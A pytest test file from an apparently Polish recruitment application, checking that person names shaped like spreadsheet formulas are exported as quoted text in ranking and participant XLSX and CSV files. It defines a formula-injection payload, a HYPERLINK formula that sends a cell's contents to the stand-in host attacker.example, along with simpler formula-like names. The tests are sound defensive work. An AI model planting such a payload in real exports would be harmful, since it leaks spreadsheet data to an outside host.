"""Formula injection (issue 13): a person whose name starts like a formula comes out as text in the
ranking XLSX and in the participant export (XLSX and CSV), never as a live formula."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from szansa.domain.recruitment import exports, services
from tests.factories import IncomeRecordFactory, PersonFactory
from tests.factories.recruitment import DECEMBER, ON, add_rule, document_kind, fill_project, with_consent

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Kliknij")'
START = datetime.date(2019, 3, 1)


def _cells_with(workbook, text):
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]


def test_a_formula_like_name_is_text_in_the_ranking_xlsx(cast, client_for, round_, target_group):
    add_rule(target_group, resident_gmina={"gmina": "Andrychów"}, income={})
    person = with_consent(
        PersonFactory(first_name=EVIL, last_name="@SUM(1+1)", responsible_worker=cast.pracownik)
    )
    IncomeRecordFactory(person=person, month=DECEMBER, net_amount=Decimal("612.40"))
    application = services.application_submit(
        actor=cast.koordynator,
        person=person,
        round=round_,
        submitted_on=datetime.date(2019, 1, 20),
        channel="in_person",
    )
    for code in ("residence_statement", "income_statement"):
        services.document_receive(
            actor=cast.koordynator, application=application, kind=document_kind(code), received_on=ON
        )
    services.application_verify(actor=cast.koordynator, application=application, on=ON)
    services.round_rank(actor=cast.koordynator, round=round_)

    response = client_for(cast.koordynator).get(f"/rekrutacja/dokumenty/nabor/{round_.pk}/ranking.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    name = f"{EVIL} @SUM(1+1)"  # the ranking shows "first name surname" in one cell
    cells = _cells_with(workbook, name)
    assert cells, "the name is in the ranking"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
    assert not [c for s in workbook.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]


@pytest.fixture
def evil_project(cast, project, target_group):
    fill_project(cast, project, target_group)
    person = project.participants.order_by("pk").first().person
    person.first_name, person.last_name = EVIL, "-2+3"
    person.save()
    return project


def test_a_formula_like_name_is_text_in_the_participant_xlsx(evil_project):
    export = exports.export_participants(evil_project, format="xlsx")
    workbook = load_workbook(io.BytesIO(export.participants))
    for text in (EVIL, "-2+3"):
        cells = _cells_with(workbook, text)
        assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert not [c for s in workbook.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    # dates stay dates, numbers stay numbers
    header = [cell.value for cell in workbook.worksheets[0][1]]
    row = list(workbook.worksheets[0][2])
    assert isinstance(row[header.index("Wiek w chwili przystąpienia do projektu")].value, int)


def test_a_formula_like_name_is_text_in_the_participant_csv(evil_project):
    export = exports.export_participants(evil_project, format="csv")
    rows = list(csv.reader(io.StringIO(export.participants.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    # an apostrophe before the formula: a spreadsheet shows it as text and never evaluates it
    assert "'" + EVIL in cells and "'-2+3" in cells
    assert EVIL not in cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    report = [
        cell
        for row in csv.reader(io.StringIO(export.validation.decode("utf-8-sig")), delimiter=";")
        for cell in row
    ]
    assert not [cell for cell in report if cell[:1] in ("=", "+", "-", "@")]
